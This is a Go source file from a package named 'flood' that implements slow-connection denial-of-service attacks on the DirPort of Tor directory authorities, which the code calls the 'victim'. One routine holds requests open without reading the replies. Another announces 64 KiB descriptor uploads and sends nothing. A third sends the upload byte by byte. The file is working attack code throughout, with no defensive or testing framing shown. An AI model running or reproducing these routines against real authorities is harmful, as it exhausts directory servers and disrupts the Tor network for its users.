package flood

import (
	"context"
	"fmt"

	"github.com/chivenet/chive/internal/fault"
)

// uploadBytes is what an upload announces: no more than authorities take.
const uploadBytes = 64 << 10

func uploadHead() []byte {
	return fmt.Appendf(nil, "POST /tor/ HTTP/1.0\r\nContent-Length: %d\r\n\r\nrouter ", uploadBytes)
}

// authUnread asks an authority's DirPort for documents, and reads nothing.
func authUnread(ctx context.Context, a *attack) error {
	return a.dirPort(ctx, func(ctx context.Context, i int, c *gated) error {
		if c, ok := c.Conn.(interface{ SetReadBuffer(int) error }); ok {
			if err := c.SetReadBuffer(1 << 10); err != nil {
				return fault.Wrap(fault.Local, err)
			}
		}
		c.Shut()
		if _, err := c.Write(request(i)); err != nil {
			return fault.Wrap(fault.Network, err)
		}
		a.sent.Add(1)
		// Whether the victim is still there shows only by writing: it waits.
		pause(ctx, a.Time)
		return context.Cause(ctx)
	})
}

// authAnnounce announces uploads, and sends nothing of them.
func authAnnounce(ctx context.Context, a *attack) error {
	return a.dirPort(ctx, func(ctx context.Context, _ int, c *gated) error {
		if _, err := c.Write(uploadHead()); err != nil {
			return fault.Wrap(fault.Network, err)
		}
		a.sent.Add(1)
		return a.hold(ctx, c)
	})
}

// authSlow announces uploads, and sends them byte by byte.
func authSlow(ctx context.Context, a *attack) error {
	return a.dirPort(ctx, func(ctx context.Context, _ int, c *gated) error {
		if _, err := c.Write(uploadHead()); err != nil {
			return fault.Wrap(fault.Network, err)
		}
		for range uploadBytes {
			if !a.rate.take(ctx, 1) {
				return context.Cause(ctx)
			}
			if _, err := c.Write([]byte{'x'}); err != nil {
				return fault.Wrap(fault.Network, err)
			}
			a.sent.Add(1)
		}
		return a.hold(ctx, c)
	})
}

// dirPort opens the connections of the budget to the victim's DirPort.
func (a *attack) dirPort(ctx context.Context, f func(ctx context.Context, i int, c *gated) error) error {
	return a.each(ctx, func(ctx context.Context, i int) error {
		c, err := a.dial(ctx, i, a.Victim.Dir)
		if err != nil {
			return err
		}
		defer c.Close()
		return f(ctx, i, c)
	})
}
